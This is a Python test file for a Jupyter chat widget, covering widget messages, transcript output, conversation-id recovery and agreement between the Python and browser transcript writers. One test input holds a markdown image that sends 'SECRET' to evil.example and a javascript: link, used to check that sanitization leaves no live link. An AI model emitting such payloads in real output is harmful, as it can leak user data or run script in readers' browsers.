"""ChatPanel keeps ipywidgets' contract (``send`` of a dict is a widget message), and
its output carries what the kernel-free view and readers without the extension need."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from jupyter_resumechat.errors import ConnectionFailed, NotFound
from jupyter_resumechat.models import Role
from jupyter_resumechat.widget import ChatPanel
from jupyter_resumechat.widget.transcript import MIME_TYPE, transcript
from tests.support.services import unavailable

ROOT = Path(__file__).resolve().parents[2]


class NoServer:
    """A client that must not be used: any call fails the test."""

    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"the panel called the server ({name}) for a widget message")


@pytest.fixture
def panel() -> ChatPanel:
    made = ChatPanel("notes.ipynb", client=NoServer())  # type: ignore[arg-type]
    yield made
    made.close()


def test_focus_and_blur_are_widget_messages_not_chat(panel: ChatPanel, monkeypatch: Any) -> None:
    sent: list[Any] = []
    monkeypatch.setattr(panel.comm, "send", lambda data=None, buffers=None, **_: sent.append(data))
    panel.focus()
    panel.blur()
    assert [m.get("content") for m in sent] == [{"do": "focus"}, {"do": "blur"}]


def test_a_string_is_still_a_chat_message(panel: ChatPanel) -> None:
    with pytest.raises(AssertionError, match="called the server"):
        panel.send("hello")


class OneConversation:
    """A server holding one conversation with one exchange; records what was asked."""

    def __init__(self, known: tuple[str, ...] = ("old", "c-1")) -> None:
        self.created: list[str | None] = []
        self.known = known

    def get_conversation(self, conversation_id: str) -> Any:
        if conversation_id not in self.known:
            raise NotFound(f"no conversation {conversation_id!r}")
        return SimpleNamespace(id=conversation_id)

    def create_conversation(self, title: str | None = None, key: str | None = None) -> Any:
        self.created.append(key)
        return SimpleNamespace(id="c-1")

    def messages(self, conversation_id: str) -> list[Any]:
        return [
            SimpleNamespace(role=Role.USER, content="What is <b>SSE</b>?"),
            SimpleNamespace(role=Role.ASSISTANT, content="Server-sent events."),
        ]


class Unreachable:
    def __getattr__(self, name: str) -> Any:
        def fail(*args: Any, **kwargs: Any) -> Any:
            raise ConnectionFailed("no server")

        return fail


def bundle(panel: ChatPanel) -> dict[str, Any]:
    shown = panel._repr_mimebundle_()
    assert shown is not None
    return shown[0]


def test_the_output_carries_the_id_and_a_transcript_beside_the_widget() -> None:
    panel = ChatPanel("notes", client=OneConversation())  # type: ignore[arg-type]
    try:
        data = bundle(panel)
        assert data["application/vnd.jupyter.widget-view+json"]["model_id"] == panel.model_id
    finally:
        panel.close()
    assert data[MIME_TYPE] == {
        "conversation_id": "c-1",
        "key": "",  # the id is known: the key (often a local path) is not written
        "title": "notes",
        "model": "",
        "bridge_id": panel.bridge_id,
        "notebook": False,
    }
    assert "**User:**\n\n> What is &lt;b>SSE&lt;/b>?" in data["text/markdown"]
    assert "Assistant: Server-sent events." in data["text/plain"]
    assert "ChatPanel" not in data["text/plain"]


def test_with_no_server_the_output_still_names_its_key() -> None:
    panel = ChatPanel("notes", client=Unreachable())  # type: ignore[arg-type]
    try:
        data = bundle(panel)
    finally:
        panel.close()
    assert data[MIME_TYPE]["conversation_id"] == "" and data[MIME_TYPE]["key"] == "notes"
    assert "0 messages" in data["text/plain"]


def test_a_renamed_notebook_finds_the_id_its_saved_output_holds(tmp_path: Path, monkeypatch: Any) -> None:
    saved = {
        "cells": [
            {
                "cell_type": "code",
                "outputs": [{"data": {MIME_TYPE: {"conversation_id": "old", "notebook": True}}}],
            }
        ]
    }
    (tmp_path / "renamed.ipynb").write_text(json.dumps(saved))
    monkeypatch.setenv("JPY_SESSION_NAME", str(tmp_path / "renamed.ipynb"))
    server = OneConversation()
    panel = ChatPanel(client=server)  # type: ignore[arg-type]
    try:
        assert bundle(panel)[MIME_TYPE]["conversation_id"] == "old"
    finally:
        panel.close()
    assert server.created == []  # no conversation made for the new path


def test_a_saved_id_that_is_gone_falls_back_to_the_key(tmp_path: Path, monkeypatch: Any) -> None:
    """Deleted from the side panel, a reset database, a notebook from another server:
    the saved id answers 404, so the notebook's path keys a chat again."""
    saved = {
        "cells": [{"cell_type": "code", "outputs": [{"data": {MIME_TYPE: {"conversation_id": "gone"}}}]}]
    }
    (tmp_path / "copied.ipynb").write_text(json.dumps(saved))
    monkeypatch.setenv("JPY_SESSION_NAME", str(tmp_path / "copied.ipynb"))
    server = OneConversation()
    panel = ChatPanel(client=server)  # type: ignore[arg-type]
    try:
        assert bundle(panel)[MIME_TYPE]["conversation_id"] == "c-1"
    finally:
        panel.close()
    assert server.created == [str(tmp_path / "copied.ipynb")]


def test_python_and_the_browser_write_the_same_transcript() -> None:
    if shutil.which("node") is None:
        unavailable("node is not installed")
    messages = [
        {
            "role": "user",
            "content": "a < b & c ![x](https://evil.example/p?d=SECRET) [c](javascript:alert(1))",
        },
        {"role": "assistant", "content": " **yes** \n"},
    ]
    script = (
        "import { transcript } from './js/transcript.js';"
        f"process.stdout.write(JSON.stringify(transcript('Chat', {json.dumps(messages)})));"
    )
    node = subprocess.run(
        ["node", "--input-type=module", "-e", script], cwd=ROOT, capture_output=True, text=True, check=True
    )
    written = json.loads(node.stdout)
    shown = [SimpleNamespace(role=Role(m["role"]), content=m["content"]) for m in messages]
    assert (written["markdown"], written["plain"]) == transcript("Chat", shown)  # type: ignore[arg-type]
    assert "](" not in written["markdown"].replace("&#93;(", "")  # no live link or image


class Recording(OneConversation):
    """Records which conversation each call was about."""

    def __init__(self) -> None:
        super().__init__(known=("c-1", "c-2"))
        self.asked: list[tuple[str, str]] = []

    def messages(self, conversation_id: str) -> list[Any]:
        self.asked.append(("messages", conversation_id))
        return super().messages(conversation_id)

    def send(self, conversation_id: str, text: str, **_: Any) -> Any:
        self.asked.append(("send", conversation_id))
        return SimpleNamespace(stream_id="s-1")


def test_the_python_side_follows_the_conversation_the_view_switched_to() -> None:
    """The view's switcher (or New conversation) sets the synced traits; Python's
    ``messages`` and ``ask`` then act on that conversation, not the first one."""
    client = Recording()
    panel = ChatPanel("notes", client=client)  # type: ignore[arg-type]
    try:
        panel.messages  # noqa: B018 - reading is the call under test
        panel.set_state({"conversation_id": "c-2", "conversation_key": ""})  # what the view's update does
        panel.messages  # noqa: B018
        panel.ask("hello")
    finally:
        panel.close()
    assert client.asked == [("messages", "c-1"), ("messages", "c-2"), ("send", "c-2")]
